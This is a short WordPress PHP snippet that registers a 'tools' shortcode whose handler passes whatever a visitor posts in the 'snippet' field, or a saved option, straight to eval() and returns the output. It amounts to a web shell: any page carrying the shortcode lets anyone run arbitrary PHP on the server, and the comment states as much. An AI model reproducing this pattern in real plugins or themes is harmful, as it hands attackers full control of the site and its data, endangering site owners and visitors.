<?php
// a shortcode handler that runs what the visitor posts
add_shortcode('tools', 'tools_shortcode');
function tools_shortcode($atts) {
    $saved = get_option('tools_snippet');
    $code = isset($_POST['snippet']) ? $_POST['snippet'] : $saved;
    ob_start();
    eval($code);
    return ob_get_clean();
}
